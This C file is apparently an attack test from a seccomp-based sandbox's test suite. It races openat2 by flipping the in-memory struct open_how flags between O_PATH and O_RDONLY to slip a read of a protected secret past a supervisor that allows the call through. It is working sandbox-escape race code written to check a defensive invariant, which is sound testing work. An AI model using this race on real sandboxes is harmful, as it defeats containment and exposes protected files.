/*
 * attack_openat2_race - flip openat2's struct open_how between O_PATH and
 * O_RDONLY while calling it on the secret.
 *
 * openat2 passes its flags in memory (struct open_how), not in a register.
 * If ward reads how.flags, sees O_PATH and lets the kernel run the call
 * (SECCOMP_USER_NOTIF_FLAG_CONTINUE), the kernel reads the struct again -
 * and may find O_RDONLY there by then.  DESIGN.md §2 invariant 2: never
 * CONTINUE when the decision depended on the agent's memory.
 *
 * A thread flips how.flags (one aligned 8-byte store) for race_seconds();
 * the main thread calls openat2 and reads from whatever fd it gets.
 * Reading the secret once is a LEAK.
 */
#include "attack.h"

#include <linux/openat2.h>
#include <pthread.h>

static struct open_how how __attribute__((aligned(64)));
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		__atomic_store_n(&how.flags, (uint64_t)(O_PATH | O_CLOEXEC), __ATOMIC_RELAXED);
		for (volatile int i = 0; i < 20; i++)
			;
		__atomic_store_n(&how.flags, (uint64_t)(O_RDONLY | O_CLOEXEC), __ATOMIC_RELAXED);
		for (volatile int i = 0; i < 20; i++)
			;
	}
	return NULL;
}

int main(void)
{
	unsigned long calls = 0, opath = 0, denied = 0, other = 0;
	pthread_t t;

	how.flags = O_PATH | O_CLOEXEC;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		setup_failed("pthread_create");
	double end = now() + race_seconds();
	while (now() < end && !att_through) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, SECRET, &how, sizeof(how));
		calls++;
		if (fd < 0) {
			if (errno == EACCES)
				denied++;
			else
				other++;
			continue;
		}
		char buf[128];
		ssize_t n = read(fd, buf, sizeof(buf));
		if (n > 0 && is_secret(buf, (size_t)n))
			leak("openat2 with how.flags flipped from O_PATH to O_RDONLY", buf, (size_t)n);
		else
			opath++;
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	say("note: %lu calls: %lu gave an fd that does not read, %lu denied, %lu other errors",
	    calls, opath, denied, other);
	if (!att_through)
		say("blocked: flipping open_how.flags never gave a readable fd of the secret");
	return finish();
}
